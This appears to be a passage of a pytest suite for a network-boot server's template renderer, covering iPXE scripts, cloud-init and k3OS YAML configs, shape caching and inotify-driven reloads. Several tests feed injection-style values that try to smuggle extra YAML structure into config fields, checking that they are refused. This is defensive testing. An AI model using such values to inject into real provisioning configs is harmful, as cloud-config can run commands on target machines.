    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/api/v1/register"
        root = tmp_path / "root"
        cmd = register_command(url, "52:54:00:00:00:11", "tok", "edge-1").replace(
            "/var/lib/netboot", str(root))
        assert "hostname -i" not in cmd
        for _ in range(2):  # the second run finds the marker and posts nothing
            subprocess.run([str(bin_dir / "sh"), "-c", cmd], check=True, timeout=30,
                           env={"PATH": str(bin_dir)}, capture_output=True)
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)
    assert len(posts) == 1, posts
    path, ctype, raw = posts[0]
    assert path == "/api/v1/register" and ctype == "application/json"
    sent = json.loads(raw)
    assert sent["mac"] == "52:54:00:00:00:11" and sent["token"] == "tok"
    assert sent["node_name"] == "edge-1" and sent["hostname"]
    assert "addresses" not in sent
    assert (root / "registered").exists()


def test_shipped_templates_pass_the_start_up_check() -> None:
    # serve checks only operator templates at start: this is where the shipped ones are.
    Renderer([templates_dir()]).check_all(shipped=True)


def test_shipped_templates_only_start_without_jinja2() -> None:
    import subprocess
    import sys

    # A fresh interpreter (this one has imported Jinja2 long ago): the check at start
    # imports nothing when there is no override; the first render does.
    code = ("import sys\nfrom netboot.render import Renderer\nfrom netboot.shipped import "
            "templates_dir\nr = Renderer([templates_dir()])\nr.check_all()\n"
            "print('jinja2' in sys.modules)\nr.render_string('{{ 1 }}', {}, what='t')\n"
            "print('jinja2' in sys.modules)\n")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         cwd=Path(__file__).resolve().parent.parent).stdout
    assert out.split()[:2] == ["False", "True"]


def test_override_is_checked_beside_shipped(tmp_path: Path) -> None:
    (tmp_path / "ipxe").mkdir()
    (tmp_path / "ipxe" / "local.ipxe").write_text("#!ipxe\n{% endif %}\n")
    with pytest.raises(ConfigError) as err:
        Renderer([tmp_path, templates_dir()]).check_all()
    assert err.value.line == 2 and "local.ipxe" in (err.value.source or "")


def _old_yaml_check(r: Renderer, name: str, ctx: dict[str, object]) -> str | None:
    """What yaml_document answered before shapes: the text if it parses, None if not (any
    error of the parse: a tagged value's ValueError, a surrogate's UnicodeEncodeError are
    RenderErrors since s44-attack, as a YAMLError is)."""
    text = r.render(name, ctx)
    try:
        yaml.load(text, Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader))
    except Exception:
        return None
    return text


def test_yaml_document_of_every_shipped_config_is_parsed_once_per_shape() -> None:
    """Configs of machines alike but for what is theirs: the first of each shape is parsed,
    the rest are known by their shape (not parsed again) and are the whole render's text."""
    c = content()
    parsed: list[str] = []
    real = yaml.load

    def counting(text: str, Loader: object) -> object:
        parsed.append(text)
        return real(text, Loader=Loader)  # type: ignore[arg-type]

    names = ("k3os.yaml", "cloud-init/meta-data", "cloud-init/user-data",
             "cloud-init/vendor-data")
    contexts = [c.context(p) for p in _machines(24) if p.action == BootAction.INSTALL]
    expected = [[_old_yaml_check(renderer(), f"cloud-config/{name}", ctx) for name in names]
                for ctx in contexts]
    yaml.load = counting  # type: ignore[assignment]
    try:
        for ctx, texts in zip(contexts, expected, strict=True):
            for name, text in zip(names, texts, strict=True):
                header = "#cloud-config" if "data" in name and "meta" not in name else ""
                assert text == c._render.yaml_document(f"cloud-config/{name}", ctx,
                                                       header=header)
    finally:
        yaml.load = real  # type: ignore[assignment]
    # 4 templates; hostname or none, with a CA or not... a few shapes each, not one a machine.
    assert 4 <= len(parsed) <= 16, len(parsed)


def _outcome(check: Callable[[], str | None]) -> object:
    """What ``check`` gives: its text, None for a RenderError, or the type of what it raised
    beside (what the parse raised beside YAMLError, too: a surrogate)."""
    try:
        return check()
    except RenderError:
        return None
    except Exception as exc:
        return type(exc)


def _matched(forms: object) -> list[bool]:
    """What each call of ``forms.matches`` (a _YamlShapes) answers from now on."""
    matched: list[bool] = []
    real = forms.matches  # type: ignore[attr-defined]

    def counting(name: str, text: str) -> bool:
        matched.append(real(name, text))
        return matched[-1]

    forms.matches = counting  # type: ignore[attr-defined]
    return matched


_SHAPED = [
    "k: {{ v | tojson }}\n",
    "# about {{ v }}\nk: 1\n",
    "k: 1\n  # {{ v }}\n",
    "k: 1 # {{ v }}\n",
    "k: {{ v }}\n",
    "k: '{{ v }}'\n",
    "k: \"{{ v }}\"\n",
    "k: \"x\" {{ v | tojson }}\n",
    "{{ v | tojson }}: 1\n",
    "a:\n  {{ v | tojson }}: 1\n",
    "k: [{{ v | tojson }}, 2]\n",
    "k: {{ '{' }}{{ v | tojson }}: 1}\n",
    "k: !!int {{ v | tojson }}\n",
    "k: &a {{ v | tojson }}\nj: *a\n",
    "k: {{ v | tojson(indent=1) }}\n",
    "k: |\n  line {{ v }}\n  more\nj: 1\n",
    "k: |\n  {{ v }}\n  more\nj: 1\n",
    "k: >\n  x {{ v }}\nj: {{ v | tojson }}\n",
    "k:\n  - {{ v | tojson }}\n  - {{ v | tojson }}\n",
    "{{ v | tojson }}\n",
    "k: {{ v | tojson }}{{ v | tojson }}\n",
    "{% macro m(x) %}{{ x | tojson }}{% endmacro %}k: {{ m(v) }}\n",
    "{% set s %}{{ v | tojson }}{% endset %}k: {{ s }}\n",
    "k: {{ (v | tojson)[1:] }}\n",
    "# {{ v }}\n---\nk: 1\n",
    "k: {{ v | tojson }}\n#{{ v }}",
]
_VALUES: list[object] = [
    "plain", "edge-2", "a b", "", "x" * 2000, "a: b", "a #b", "#x", "\"", "'", "\\",
    "- x", "{", "[", "}", "]", ",", "? q", "*a", "&b", "!!int", "|", ">", "%", "@", "`",
    "2001-13-45", "2001-12-14", "<<", "~", "null", "0x1F", "1e3", "yes", "\t", "a\nb",
    "a\rb", "\u2028", "\x85", "\x7f", "\x00", "\x01", "é", "😀", "\ud800", "\ufeff",
    "a\n  - b", "a\n# c", "a: \"b\"", {"a": 1}, ["a", "b"], 1, None, True,
]


@pytest.mark.parametrize("source", _SHAPED)
def test_yaml_shapes_refuse_what_the_parse_refused(tmp_path: Path, source: str) -> None:
    """Whatever a template prints where, and whatever the value (one that breaks the YAML
    where a value of the shape already parsed): yaml_document gives what the parse of every
    text gave, the same text or a RenderError."""
    (tmp_path / "cloud-config").mkdir()
    (tmp_path / "cloud-config" / "t.yaml").write_text(source)
    shaped, whole = Renderer([tmp_path]), Renderer([tmp_path])
    for first in ("plain", "a b", "edge-2"):  # shapes learned, then every value against them
        for v in [first, *_VALUES]:
            ctx = {"v": v}
            expected = _outcome(lambda c=ctx: _old_yaml_check(whole, "cloud-config/t.yaml", c))
            got = _outcome(lambda c=ctx: shaped.yaml_document("cloud-config/t.yaml", c))
            assert got == expected, (source, v)


# Values that are double-quoted YAML scalars themselves (printed as they are, ``{{ v }}``),
# the first two of one form, the rest anything a quoted scalar can go wrong with.
_QUOTED_VALUES: list[object] = [
    '"plain"', '"edge-2"', '""', '"a b"', '"\\u00e9"', '"a\\"b"', '"\\q"', '"\\ud800"',
    '"\\ud800\\udc00"', '"\\x41"', '"\\/"', '"a\x01b"', '"a\x7fb"', '"a\tb"', '"é"',
    '"a" "b"', '"a"b', '"a', 'a"', '"a\\', '"a" #c', '"a\\nb"', '"a\u2028b"', '"a\nb"',
    '"a\n  - b"', '"a": "b"', '"#"', "'a'", "\"a\x00\"", '"' + "x" * 2000 + '"',
]


@pytest.mark.parametrize("source", [*_SHAPED, "k: {{ v }}\nj: [{{ v }}]\n",
                                    "- {{ v }}\n- {{ v }} # {{ v }}\n",
                                    "# {{ v }}, {{ v }} ({{ v }})\nk: {{ v | tojson }}\n"])
def test_yaml_shapes_found_again_check_plain_texts_as_the_parse_did(tmp_path: Path,
                                                                    source: str) -> None:
    """A form found again is then looked for in texts rendered without marks
    (_YamlShapes.matches): whatever the value, quoted scalars and comments too, yaml_document
    still gives what the parse of every text gave; and the plain texts were so checked."""
    (tmp_path / "cloud-config").mkdir()
    (tmp_path / "cloud-config" / "t.yaml").write_text(source)
    shaped, whole = Renderer([tmp_path]), Renderer([tmp_path])
    matched = _matched(shaped._shapes)
    for first in ("plain", '"plain"', "a b"):  # each form twice (found again), then the rest
        for i, v in enumerate([first, first, first, *_VALUES, *_QUOTED_VALUES]):
            ctx = {"v": v}
            expected = _outcome(lambda c=ctx: _old_yaml_check(whole, "cloud-config/t.yaml", c))
            got = _outcome(lambda c=ctx: shaped.yaml_document("cloud-config/t.yaml", c))
            assert got == expected, (source, v)
            if i == 2 and first == "plain" and isinstance(expected, str) and "{%" not in source:
                # The third text of a form that parsed (its values not printed into others'):
                # checked by the form's pattern.
                assert matched and matched[-1], (source, v)


def test_shipped_configs_found_again_are_checked_without_marks() -> None:
    """The shipped k3OS config of machines alike but for what is theirs: from the second
    machine of a form on, its text is checked by the form's pattern (rendered without
    marks, not parsed), and it is the whole render's text."""
    c = content()
    forms = c._render._shapes
    matched = _matched(forms)
    plans = [p for p in _machines(24) if p.action == BootAction.INSTALL]
    for p in plans:
        assert c.k3os_config(p) == _old_yaml_check(renderer(), "cloud-config/k3os.yaml",
                                                   c.context(p))
    assert matched.count(True) >= len(plans) - 8, matched


def test_values_alike_in_a_forms_texts_are_taken_verbatim_by_its_pattern(
        tmp_path: Path) -> None:
    """A comment's value that is the same for every machine (a URL, with a ':' where the
    comment goes on) is taken verbatim by the form's pattern: the machines' texts are
    checked by it; another URL is checked by the marks again (and parses, or not, as
    before), then by a pattern of its own."""
    (tmp_path / "cloud-config").mkdir()
    (tmp_path / "cloud-config" / "t.yaml").write_text(
        "# for {{ url }}: {{ v }}\nk: {{ v | tojson }}\n")
    r = Renderer([tmp_path])
    matched = _matched(r._shapes)
    for url in ("https://a:8443", "https://b:8443"):
        for i in range(6):
            ctx = {"url": url, "v": f"edge-{i}"}
            assert r.yaml_document("cloud-config/t.yaml", ctx) == \
                f'# for {url}: edge-{i}\nk: "edge-{i}"\n'
    assert matched == [True] * 4 + [False, False] + [True] * 4, matched
    with pytest.raises(RenderError, match="invalid YAML"):
        r.yaml_document("cloud-config/t.yaml", {"url": "https://b:8443\n- x", "v": "e"})


def test_the_form_that_matched_is_tried_first_next_time(tmp_path: Path) -> None:
    """Two texts of one cluster make a form whose server URL is verbatim; a text of another
    cluster makes the form that takes any URL, tried after it. Once that one has matched a
    text it is tried first (a storm over many clusters tried both for most texts); every
    text is what the template renders, checked as before."""
    (tmp_path / "cloud-config").mkdir()
    (tmp_path / "cloud-config" / "t.yaml").write_text(
        "k: {{ v | tojson }}\nurl: {{ url | tojson }}\n")
    r = Renderer([tmp_path])
    matched = _matched(r._shapes)
    for url, v in (("a", "e1"), ("a", "e2"), ("b", "e3"), ("a", "e4"), ("c", "e5"), ("a", "e6")):
        assert r.yaml_document("cloud-config/t.yaml", {"url": url, "v": v}) == \
            f'k: "{v}"\nurl: "{url}"\n'
    assert matched == [False, True, True, True], matched
    patterns = r._shapes._patterns[("cloud-config/t.yaml", 2)]
    # The URL of cluster a verbatim, and any URL: the latter matched c's text, so first.
    assert [p.fullmatch('k: "x"\nurl: "c"\n') is not None for p in patterns] == [True, False]
    assert r.yaml_document("cloud-config/t.yaml", {"url": "d", "v": "e7"}) == \
        'k: "e7"\nurl: "d"\n'
    assert matched[-1] is True


def test_a_template_whose_texts_miss_their_forms_patterns_is_not_rendered_twice(
        tmp_path: Path) -> None:
    """Machines' values that hold what the pattern stops at (a ':' where the comment goes
    on with one): after 16 misses in a row, texts are checked by their marks alone (one
    render each, as before); a form found again later is looked for again."""
    (tmp_path / "cloud-config").mkdir()
    (tmp_path / "cloud-config" / "t.yaml").write_text("# for {{ v }}: x\nk: {{ v | tojson }}\n")
    r = Renderer([tmp_path])
    matched = _matched(r._shapes)
    for i in range(100):
        v = f"edge:{i}"
        assert r.yaml_document("cloud-config/t.yaml", {"v": v}) == f'# for {v}: x\nk: "{v}"\n'
    assert matched == [False] * 16, matched
    for _ in range(4):  # another form (a value alike in its texts), found again: it answers
        assert r.yaml_document("cloud-config/t.yaml", {"v": "e"}) == '# for e: x\nk: "e"\n'
    assert matched == [False] * 16 + [True] * 2, matched


def test_yaml_shape_of_an_edited_template_is_parsed_again(tmp_path: Path) -> None:
    (tmp_path / "cloud-config").mkdir()
    path = tmp_path / "cloud-config" / "t.yaml"
    path.write_text("k: {{ v | tojson }}\n")
    r = Renderer([tmp_path])
    assert r.yaml_document("cloud-config/t.yaml", {"v": "a"}) == 'k: "a"\n'
    assert r.yaml_document("cloud-config/t.yaml", {"v": "b"}) == 'k: "b"\n'
    path.write_text("k: {{ v | tojson }}\n  - x\n")
    st = path.stat()
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns + 2_000_000_000))  # a later mtime
    with pytest.raises(RenderError, match="invalid YAML"):
        r.yaml_document("cloud-config/t.yaml", {"v": "c"})


def test_config_context_has_the_command_line_only_for_a_template_that_reads_it(
        tmp_path: Path) -> None:
    """Rendering the kernel command line was half of a config's context: left out where the
    config template does not read it, there (and after an edit that reads it) as before."""
    (tmp_path / "cloud-config").mkdir()
    path = tmp_path / "cloud-config" / "k3os.yaml"
    path.write_text((templates_dir() / "cloud-config" / "k3os.yaml").read_text())
    c = content()
    c._render = Renderer([tmp_path, templates_dir()])
    rendered: list[str] = []
    real = c._render.cmdline

    def counting(source: str, context: Mapping[str, object], profile: str) -> str:
        rendered.append(source)
        return real(source, context, profile)

    c._render.cmdline = counting  # type: ignore[method-assign]
    p = plan(BootAction.INSTALL)
    assert c.k3os_config(p) == content().k3os_config(p)
    assert c.nocloud(p, "user-data") == content().nocloud(p, "user-data")
    assert rendered == []
    path.write_text("cmdline: {{ cmdline | tojson }}\n")
    st = path.stat()
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns + 2_000_000_000))  # a later mtime
    assert yaml.safe_load(c.k3os_config(p))["cmdline"].startswith("k3os.mode=install ")
    assert len(rendered) == 1
    path.write_text("hostname: {{ machine.hostname | tojson }}\n")
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns + 4_000_000_000))
    assert c.k3os_config(p) == 'hostname: "edge-1"\n' and len(rendered) == 1
    path.write_text("kernel: {{ cmdline | tojson }}\n")
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns + 6_000_000_000))
    assert yaml.safe_load(c.k3os_config(p))["kernel"].startswith("k3os.mode=install ")


def no_inotify_instance_left(monkeypatch: pytest.MonkeyPatch) -> None:
    """inotify_init1(2) fails as it does once the user's instances are all taken
    (``fs.inotify.max_user_instances``, 128 by default, e.g. on a CI machine running many
    processes): EMFILE, at the call the renderer makes."""
    import ctypes
    import errno

    real = ctypes.CDLL

    class Libc:
        def __init__(self, *args: object, **kwargs: object) -> None:
            self._libc = real(*args, **kwargs)  # type: ignore[arg-type]

        def __getattr__(self, name: str) -> object:
            return getattr(self._libc, name)

        def inotify_init1(self, flags: int) -> int:
            ctypes.set_errno(errno.EMFILE)
            return -1

    monkeypatch.setattr(ctypes, "CDLL", Libc)


@pytest.mark.parametrize("instances", ["free", "none-left"])
def test_template_files_are_checked_again_only_when_inotify_says_one_changed(
        tmp_path: Path, instances: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every install script read its template's and its command line's mtime (two stat()
    calls); now the generation moves only on a change in the template directories (or after
    ``recheck`` seconds), and an edit is followed at the next render all the same. With no
    inotify instance left for the user, the renderer does without a watch: every use checks
    the files (the generation moves at each), and the edit is followed as well. ("free" needs
    an instance the machine may not have: where it has none, it says so and leaves that case
    to "none-left", which makes it.)"""
    if instances == "none-left":
        no_inotify_instance_left(monkeypatch)
    (tmp_path / "ipxe").mkdir()
    path = tmp_path / "ipxe" / "hold.ipxe"
    path.write_text("#!ipxe\necho one {{ mac }}\n")
    r = Renderer([tmp_path, templates_dir()], recheck=3600)
    assert r.render("ipxe/hold.ipxe", {"mac": "m1"}) == "#!ipxe\necho one m1\n"
    watched = r._fresh._watch is not None  # made at the first render
    if instances == "none-left":
        assert not watched
    elif not watched:
        pytest.skip("no inotify instance free for this user (fs.inotify.max_user_instances):"
                    " what the renderer does then is checked by [none-left]")
    generation, version = r.generation(), r.version("ipxe/hold.ipxe")
    for _ in range(3):
        assert r.render("ipxe/hold.ipxe", {"mac": "m1"}) == "#!ipxe\necho one m1\n"
    if watched:
        assert r.generation() == generation  # nothing changed: no file checked
    else:
        assert r.generation() != r.generation()  # no watch: every use checks
    assert r.version("ipxe/hold.ipxe") is version  # unchanged: not compiled again
    # An editor's save: a new file renamed over the old one.
    new = tmp_path / "ipxe" / ".hold.ipxe.swp"
    new.write_text("#!ipxe\necho two {{ mac }}\n")
    st = path.stat()
    os.utime(new, ns=(st.st_atime_ns, st.st_mtime_ns + 2_000_000_000))
    new.rename(path)
    assert r.generation() != generation
    assert r.render("ipxe/hold.ipxe", {"mac": "m2"}) == "#!ipxe\necho two m2\n"
    assert r.version("ipxe/hold.ipxe") is not version
    r.close()


def test_a_template_directory_made_after_start_is_watched_too(tmp_path: Path) -> None:
    """An operator's override in a subdirectory that did not exist when the server started
    (own-templates/cmdline/) is seen, and so are later edits of it."""
    r = Renderer([tmp_path, templates_dir()], recheck=3600)
    assert r.render("ipxe/boot.ipxe", {"base_url": "http://192.0.2.1"}).startswith("#!ipxe")
    generation = r.generation()
    (tmp_path / "ipxe").mkdir()
    assert r.generation() != generation
    generation = r.generation()
    own = tmp_path / "ipxe" / "boot.ipxe"
    own.write_text("#!ipxe\necho own {{ base_url }}\n")
    assert r.generation() != generation
    assert r.render("ipxe/boot.ipxe", {"base_url": "u"}) == "#!ipxe\necho own u\n"
    generation = r.generation()
    own.write_text("#!ipxe\necho edited {{ base_url }}\n")
    st = own.stat()
    os.utime(own, ns=(st.st_atime_ns, st.st_mtime_ns + 2_000_000_000))
    assert r.generation() != generation
    assert r.render("ipxe/boot.ipxe", {"base_url": "u"}) == "#!ipxe\necho edited u\n"


def test_a_config_override_made_after_start_is_served(tmp_path: Path) -> None:
    """A config is rendered by the marking overlay (the YAML shapes), whose template cache is
    its own: an operator's override made while the server runs replaces the shipped file
    there too, not only in the plain render."""
    (tmp_path / "cloud-config").mkdir()
    shipped = tmp_path / "cloud-config" / "t.yaml"
    shipped.write_text("k: {{ v | tojson }}\n")
    own_dir = tmp_path / "own"
    own_dir.mkdir()
    r = Renderer([own_dir, tmp_path], recheck=3600)

    def every(names: frozenset[str] | None) -> dict[str, object]:
        return {"v": "a"}

    assert r.yaml_config("cloud-config/t.yaml", every) == 'k: "a"\n'
    (own_dir / "cloud-config").mkdir()
    (own_dir / "cloud-config" / "t.yaml").write_text("own: {{ v | tojson }}\n")
    assert r.yaml_config("cloud-config/t.yaml", every) == 'own: "a"\n'


def test_an_ipxe_script_is_given_the_names_it_reads_and_all_when_that_fails(
        tmp_path: Path) -> None:
    """ipxe_with asks its context for the names the template reads; where that render fails
    (a context that left out a name), it renders again with every name, and where the
    names cannot be told (an include), with every name at once. string_reads: a command
    line's names, None for one that includes a template or does not parse."""
    (tmp_path / "ipxe").mkdir()
    (tmp_path / "ipxe" / "t.ipxe").write_text("#!ipxe\necho {{ a }} {{ b.c }}\n")
    (tmp_path / "ipxe" / "inc.ipxe").write_text("{% include 'ipxe/t.ipxe' %}")
    r = Renderer([tmp_path], recheck=3600)
    asked: list[frozenset[str] | None] = []

    def context(names: frozenset[str] | None) -> dict[str, object]:
        asked.append(names)
        return {"a": 1, "b": {"c": 2}, "other": 3}

    assert r.ipxe_with("ipxe/t.ipxe", context) == "#!ipxe\necho 1 2\n"
    assert asked == [frozenset({"a", "b"})]
    asked.clear()
    assert r.ipxe_with("ipxe/inc.ipxe", context) == "#!ipxe\necho 1 2\n"
    assert asked == [None]
    asked.clear()

    def short(names: frozenset[str] | None) -> dict[str, object]:
        asked.append(names)
        return {"a": 1} if names is not None else {"a": 1, "b": {"c": 2}}

    assert r.ipxe_with("ipxe/t.ipxe", short) == "#!ipxe\necho 1 2\n"
    assert asked == [frozenset({"a", "b"}), None]
    with pytest.raises(RenderError, match="'b' is undefined"):
        r.ipxe_with("ipxe/t.ipxe", lambda names: {"a": 1})
    assert r.string_reads("x={{ u }} {% if v %}{{ w.z }}{% endif %}") == frozenset(
        {"u", "v", "w"})
    assert r.string_reads("{% include 'ipxe/t.ipxe' %}") is None
    assert r.string_reads("{{ broken") is None


def watching(r: Renderer) -> None:
    """``r``'s inotify watch started (its first use starts it), or the test fails saying
    why: a test of the watched mode that ran without one tested the other mode (s40-attack's
    failure under a loaded machine; s40-flake)."""
    r.generation()
    if r._fresh._watch is None:
        limit = Path("/proc/sys/fs/inotify/max_user_instances")
        pytest.fail("no inotify watch: this user's inotify instances are all taken "
                    f"(fs.inotify.max_user_instances={limit.read_text().strip()}, "
                    f"{inotify_instances()} held by this test process); the renderer then "
                    "checks files at every use, which [none-left] tests", pytrace=False)


@pytest.mark.parametrize("instances", ["free", "none-left"])
def test_a_kept_split_form_answers_at_once_and_an_edit_is_rendered_anew(
        tmp_path: Path, instances: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """In a pinned scope, ipxe_with takes the split form kept for its template as the file
    is now, and cmdline the one kept for its text, at once: render and render_string are
    not called (a storm's every install script and command line), and the text is the
    whole render's. Outside a pin, or once the template is edited (a new template object),
    render's way again, with the new text. So with the inotify watch and without one (no
    instance left for the user: each pin's start checks the files): without, the kept form
    was never reached, and the test failed on a loaded machine (s40-flake)."""
    if instances == "none-left":
        no_inotify_instance_left(monkeypatch)
    (tmp_path / "ipxe").mkdir()
    template = tmp_path / "ipxe" / "t.ipxe"
    template.write_text("#!ipxe\necho {{ mac }} {{ p }}\n")
    r = Renderer([tmp_path], volatile=frozenset({"mac"}), recheck=3600)
    if instances == "free":
        watching(r)
    else:
        r.generation()
        assert r._fresh._watch is None
    calls: list[str] = []
    real_render, real_string = r.render, r.render_string

    def render(*args: Any, **kw: Any) -> str:
        calls.append("render")
        return real_render(*args, **kw)

    def render_string(*args: Any, **kw: Any) -> str:
        calls.append("string")
        return real_string(*args, **kw)

    r.render = render  # type: ignore[method-assign]
    r.render_string = render_string  # type: ignore[method-assign]

    def context(mac: str) -> Callable[[frozenset[str] | None], dict[str, object]]:
        return lambda names: {"mac": mac, "p": "x"}

    line = "a={{ mac }}  b={{ p }}"
    with r.pinned():
        assert r.ipxe_with("ipxe/t.ipxe", context("m1")) == "#!ipxe\necho m1 x\n"
        assert r.cmdline(line, {"mac": "m1", "p": "y"}, "w") == "a=m1 b=y"
    assert calls == ["render", "string"]  # the split forms made
    calls.clear()
    with r.pinned():
        assert r.ipxe_with("ipxe/t.ipxe", context("m2")) == "#!ipxe\necho m2 x\n"
        assert r.cmdline(line, {"mac": "m2", "p": "y"}, "w") == "a=m2 b=y"
        assert r.cmdline(line, {"mac": "m 3", "p": "z"}, "w") == "a=m 3 b=z"
    assert calls == []
    assert r.ipxe_with("ipxe/t.ipxe", context("m4")) == "#!ipxe\necho m4 x\n"
    assert calls == ["render"]  # not pinned: the template looked up as render does
    calls.clear()
    _edit(template, "#!ipxe\necho new {{ mac }}\n")
    with r.pinned():
        assert r.ipxe_with("ipxe/t.ipxe", context("m5")) == "#!ipxe\necho new m5\n"
        assert r.ipxe_with("ipxe/t.ipxe", context("m6")) == "#!ipxe\necho new m6\n"
    assert calls == ["render"]
    # A kept split that does not answer (a value it cannot be sure of): render's way, which
    # says what is wrong.
    calls.clear()
    with r.pinned(), pytest.raises(RenderError, match="undefined"):
        r.ipxe_with("ipxe/t.ipxe", lambda names: {"p": "x"})
    assert calls[:1] == ["render"]


def test_a_templates_reads_of_the_machine_are_told_key_by_key(tmp_path: Path) -> None:
    """Among the names a template reads, ``machine.KEY`` for each key it reads of the
    machine's dict by a constant attribute or subscript, and ``machine.*`` for any other use
    (Content.context may then give the machine with those keys alone)."""
    r = Renderer([tmp_path], recheck=3600)
    assert r.string_reads("{{ machine.hostname or mac }} {{ machine['uuid'] }}") == frozenset(
        {"machine", "mac", "machine.hostname", "machine.uuid"})
    assert r.string_reads("{{ mac }} {{ b.c }}") == frozenset({"mac", "b"})
    for whole in ("{{ machine }}", "{{ machine | tojson }}", "{{ machine.hostname }}{{ machine }}",
                  "{% for k in machine %}{{ k }}{% endfor %}", "{{ machine.items() }}",
                  "{{ machine.get('uuid') }}", "{{ machine[key] }}", "{{ machine[0] }}",
                  "{% if machine %}x{% endif %}", "{{ (machine).hostname }}{{ machine | length }}"):
        names = r.string_reads(whole)
        assert names is not None and "machine.*" in names, whole


def _edit(path: Path, text: str) -> None:
    """``path`` now holds ``text``, with a later mtime whatever the clock's resolution."""
    path.write_text(text)
    st = path.stat()
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns + 2_000_000_000))


def _v_is_a(names: frozenset[str] | None) -> dict[str, object]:
    return {"v": "a"}


@pytest.mark.parametrize("watched", [True, False], ids=["inotify", "too-big-to-watch"])
def test_an_edited_config_template_is_served_at_once(tmp_path: Path, watched: bool) -> None:
    """A config (the marking overlay) follows an edit of its template, and of a template it
    includes, at the next fetch: the watch says so (no file stat()ed per fetch); where the
    tree is too big to watch (or inotify is missing) every fetch checks, as before."""
    if not watched:
        for n in range(300):
            (tmp_path / "many" / str(n)).mkdir(parents=True)
    (tmp_path / "cloud-config").mkdir()
    path = tmp_path / "cloud-config" / "t.yaml"
    part = tmp_path / "cloud-config" / "part.yaml"
    path.write_text("k: {{ v | tojson }}\n")
    part.write_text("p: 1\n")
    r = Renderer([tmp_path], recheck=3600)
    if not watched:
        assert r.generation() != r.generation()  # no watch: every fetch checks
    assert r.yaml_config("cloud-config/t.yaml", _v_is_a) == 'k: "a"\n'
    _edit(path, "{% include 'cloud-config/part.yaml' %}k2: {{ v | tojson }}\n")
    assert r.yaml_config("cloud-config/t.yaml", _v_is_a) == 'p: 1\nk2: "a"\n'
    _edit(part, "p: 2\n")
    assert r.yaml_config("cloud-config/t.yaml", _v_is_a) == 'p: 2\nk2: "a"\n'
    assert r.yaml_document("cloud-config/t.yaml", {"v": "b"}) == 'p: 2\nk2: "b"\n'


@pytest.mark.parametrize("watched", [True, False], ids=["inotify", "too-big-to-watch"])
def test_a_new_override_is_served_at_once_watched_or_not(tmp_path: Path, watched: bool,
                                                        ) -> None:
    """An operator's override of a shipped template, made while the server runs, is served
    at the next use, by iPXE scripts and configs alike: told by the watch, or, where there is
    none (inotify missing or out of instances, a tree too big), by looking through the search
    path at each use; and its removal gives the shipped file back."""
    own, shipped_dir = tmp_path / "own", tmp_path / "shipped"
    for top in (own, shipped_dir):
        (top / "ipxe").mkdir(parents=True)
        (top / "cloud-config").mkdir()
    if not watched:
        for n in range(300):
            (own / "many" / str(n)).mkdir(parents=True)
    (shipped_dir / "ipxe" / "boot.ipxe").write_text("#!ipxe\necho shipped {{ base_url }}\n")
    (shipped_dir / "cloud-config" / "t.yaml").write_text("shipped: {{ v | tojson }}\n")
    r = Renderer([own, shipped_dir], recheck=3600)
    if not watched:
        assert r.generation() != r.generation()  # no watch: the path looked through
    assert r.render("ipxe/boot.ipxe", {"base_url": "u"}) == "#!ipxe\necho shipped u\n"
    assert r.yaml_config("cloud-config/t.yaml", _v_is_a) == 'shipped: "a"\n'
    (own / "ipxe" / "boot.ipxe").write_text("#!ipxe\necho own {{ base_url }}\n")
    (own / "cloud-config" / "t.yaml").write_text("own: {{ v | tojson }}\n")
    assert r.render("ipxe/boot.ipxe", {"base_url": "u"}) == "#!ipxe\necho own u\n"
    assert r.yaml_config("cloud-config/t.yaml", _v_is_a) == 'own: "a"\n'
    (own / "ipxe" / "boot.ipxe").unlink()
    assert r.render("ipxe/boot.ipxe", {"base_url": "u"}) == "#!ipxe\necho shipped u\n"


def test_a_change_inotify_does_not_see_is_followed_after_recheck_seconds(
        tmp_path: Path) -> None:
    """A symlinked template edited where it lives makes no event in the watched directory:
    the files kept are checked by their mtimes every ``recheck`` seconds (here at every
    use: 0), for iPXE scripts and configs alike, templates they include too; not at every
    use where the watch owns the check (recheck 3600)."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "hold.ipxe").write_text("#!ipxe\necho one\n")
    (elsewhere / "part.yaml").write_text("p: 1\n")
    own = tmp_path / "own"
    (own / "ipxe").mkdir(parents=True)
    (own / "cloud-config").mkdir()
    (own / "ipxe" / "hold.ipxe").symlink_to(elsewhere / "hold.ipxe")
    (own / "cloud-config" / "part.yaml").symlink_to(elsewhere / "part.yaml")
    (own / "cloud-config" / "t.yaml").write_text(
        "{% include 'cloud-config/part.yaml' %}k: {{ v | tojson }}\n")
    soon, late = Renderer([own], recheck=0), Renderer([own], recheck=3600)
    for r in (soon, late):
        assert r.render("ipxe/hold.ipxe", {}) == "#!ipxe\necho one\n"
        assert r.yaml_config("cloud-config/t.yaml", _v_is_a) == 'p: 1\nk: "a"\n'
    _edit(elsewhere / "hold.ipxe", "#!ipxe\necho two\n")
    _edit(elsewhere / "part.yaml", "p: 2\n")
    assert soon.render("ipxe/hold.ipxe", {}) == "#!ipxe\necho two\n"
    assert soon.yaml_config("cloud-config/t.yaml", _v_is_a) == 'p: 2\nk: "a"\n'
    if late.generation() == late.generation():  # watched (inotify instances may run out)
        assert late.render("ipxe/hold.ipxe", {}) == "#!ipxe\necho one\n"
        assert late.yaml_config("cloud-config/t.yaml", _v_is_a) == 'p: 1\nk: "a"\n'


def test_a_template_tree_too_big_to_watch_is_checked_at_every_use(tmp_path: Path) -> None:
    """templates.dir set to a big tree (or a symlink loop) is not walked for ever: past 256
    directories the files are checked at every use, as before the watch."""
    (tmp_path / "ipxe").mkdir()
    for n in range(300):
        (tmp_path / "many" / str(n)).mkdir(parents=True)
    (tmp_path / "loop").symlink_to(tmp_path)  # followed by the walk: the bound ends it
    path = tmp_path / "ipxe" / "hold.ipxe"
